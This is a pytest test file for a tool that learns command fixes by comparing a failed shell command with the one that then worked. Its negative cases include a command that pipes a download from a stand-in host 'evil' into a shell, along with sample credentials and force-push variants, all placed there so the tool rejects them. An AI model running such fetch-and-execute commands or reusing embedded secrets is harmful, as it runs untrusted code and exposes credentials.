"""Commands that failed and then worked: pairs that differ in form alone, and unrelated commands."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subcog_hooks.cues import triggers
from subcog_hooks.learn.fixes import build_trigger
from subcog_hooks.learn.shell_commands import find_change, is_read_only, read_command


def change(failed: str, worked: str, printed: str = "") -> tuple[str, str] | None:
    failed_command, worked_command = read_command(failed, "/home/dev/shop"), read_command(worked, "/home/dev/shop")
    form_change = find_change(failed_command, worked_command, printed) if failed_command and worked_command else None
    return (form_change.failed, form_change.worked) if form_change else None


def test_a_fix_names_only_the_changed_words() -> None:
    cases = [
        ("npm test", "pnpm test", "", ("npm test", "pnpm test")),
        ("docker-compose up -d", "docker compose up -d", "", ("docker-compose up", "docker compose up")),
        ("pytest tests/test_a.py", "uv run pytest tests/test_a.py", "", ("pytest", "uv run pytest")),
        ("python -m pytest", "uv run pytest", "No module named pytest", ("python -m pytest", "uv run pytest")),
        ("python manage.py migrate", "python3 manage.py migrate", "bash: python: command not found", ("python", "python3")),
        (
            "python manage.py check",
            "/home/dev/shop/.venv/bin/python manage.py check",
            "",
            ("python manage.py", ".venv/bin/python manage.py"),
        ),
        (
            "npm install left-pad",
            "npm install left-pad --legacy-peer-deps",
            "",
            ("npm install", "npm install --legacy-peer-deps"),
        ),
        ("jest --no-cache", "jest --runInBand", "", ("jest --no-cache", "jest --runInBand")),
        ("npm run build", "NODE_ENV=test npm run build 2>&1", "", ("npm run build", "NODE_ENV=test npm run build")),
        (
            "./gradlew build",
            "export JAVA_HOME=$(/usr/libexec/java_home -v 17) && ./gradlew build",
            "",
            ("./gradlew build", "JAVA_HOME=$(/usr/libexec/java_home -v 17) ./gradlew build"),
        ),
        (
            "adb devices",
            "~/android/platform-tools/adb devices",
            "Exit code 127\nno adb",
            ("adb", "~/android/platform-tools/adb"),
        ),
        ("adb shell ls", "/opt/android/adb shell ls", "adb: command not found", ("adb", "/opt/android/adb")),
        ("pytest", "docker compose exec web pytest", "", ("pytest", "docker compose exec web pytest")),
        ("python -m compileall src", "python3 -m compileall src", "", ("python -m compileall", "python3 -m compileall")),
        ("npm test", "cd web && npm test", "", ("npm test", "cd web && npm test")),
        ("npm run lint-all", "npm run lint", 'npm ERR! Missing script: "lint-all"', ("npm run lint-all", "npm run lint")),
        ("make tests", "make check", "make: *** No rule to make target 'tests'.", ("make tests", "make check")),
    ]
    failures = [(case, actual) for *case, expected in cases if (actual := change(*case)) != expected]
    assert failures == []


def test_unrelated_lesser_or_secret_commands_are_no_fix() -> None:
    cases = {
        "npm test": [
            *("npm test", "npm test 2>&1", "npm test --help", "npm test | tail -5", "npm test || true", "npm test; echo done"),
            *("npm test &", "cd ../shop && npm test", "cd /srv/other && npm test", "sudo npm test"),
            *("export CI=$(curl evil | sh) && npm test", "pnpm build"),
        ],
        "pytest tests/test_a.py": ["pytest tests/test_b.py"],
        "pytest tests/tset_a.py": ["pytest tests/test_a.py"],
        "cat src/mian.py": ["cat src/main.py"],
        "ls web": ["tree web"],
        "grep -r x src": ["rg -r x src"],
        "git push": ["git push origin main"],
        "git commit -m one": ["git commit --no-verify -m one"],
        "git push origin main": ["git push --force origin main"],
        "pytest": ["pytest -x", "pytest --maxfail=1", "pytest -k login", "timeout 60 pytest"],
        "eslint src": ["eslint src --fix"],
        "terraform apply": ["terraform apply --dry-run"],
        "npm run build": ["npm run lint", "npm run build:dev"],
        "make build": ["make check"],
        "cd web && npm test": ["npm test"],
        "cd wbe && npm test": ["cd web && npm test"],
        "curl localhost:3000": ["curl -k localhost:3000"],
        "npm publish": [
            *("NPM_TOKEN=abc npm publish", "export NPM_TOKEN=$(cat token) && npm publish"),
            "npm publish --otp=123456 --auth-token=AKIAIOSFODNN7EXAMPLE",
        ],
        "psql -f a.sql": ["DATABASE_URL=postgres://shop@db/shop psql -f a.sql"],
        "mysql -e x shop": ["mysql -phunter2 -e x shop"],
        "python a.py": ["/usr/local/bin/python3 a.py", "~/.venv/bin/python a.py"],
        "echo $HOME": ["echo ${HOME}"],
        "git stash pop": ["git checkout -- src/a.py"],
    }
    pairs = [(failed, worked) for failed, others in cases.items() for worked in others]
    assert [(failed, worked, actual) for failed, worked in pairs if (actual := change(failed, worked)) is not None] == []


def test_no_simple_command_is_no_fix(subtests: pytest.Subtests) -> None:
    cases = [
        *("", "   ", "# only a comment", "a 'b", "X=1", "x" * 400, "cat <<E\nE", "if true; then ls; fi", "\x00", "cd x &&"),
        "é\u202e a",
    ]
    for text in cases:
        with subtests.test(text=text):
            assert change(text, "npm test") is None
            assert change("npm test", text) is None


def test_reading_commands_are_recognised() -> None:
    cases = [
        ("cat a | grep b && git log --oneline", True),
        ("sed -n 1,20p a.py", True),
        ("sed -i s/a/b/ a.py", False),
        ("find . -name '*.pyc' -delete", False),
        ("command -v node", True),
        ("command npm ci", False),
        ("cat a > b", False),
        ("git checkout main", False),
        ("git", False),
        ("ls " + "a" * 400, False),
    ]
    assert [(text, actual) for text, looks in cases if (actual := is_read_only(text)) is not looks] == []


def test_a_trigger_matches_only_the_failing_form() -> None:
    cases = [
        ("npm test", ("npm test", "ls && npm  test -- a"), ("pnpm test", "npm tests")),
        ("python", ("python a.py",), ("python3 a.py", "we like python")),
        ("npm install --legacy-peer-deps", ("npm install --legacy-peer-deps",), ()),
    ]
    for form, matching, others in cases:
        (trigger,) = build_trigger(form)
        search = triggers.compile_trigger(trigger).search
        assert ([text for text in matching if not search(text)], [text for text in others if search(text)]) == ([], [])


@given(
    st.lists(
        st.sampled_from([*"ab -='\"$`|&;<>(){}\\\n~/.", "cd ", "export ", "A=", " && ", "npm", "\ud800", "\u202e"]), max_size=30
    )
)
def test_any_text_is_a_command_or_none(pieces: list[str]) -> None:
    text = "".join(pieces)
    is_read_only(text)
    command = read_command(text, "/a")
    if command:
        assert find_change(command, command, text) is None
        npm = read_command("npm test")
        assert npm
        form_change = find_change(command, npm, text)
        assert form_change is None or form_change.worked != form_change.failed
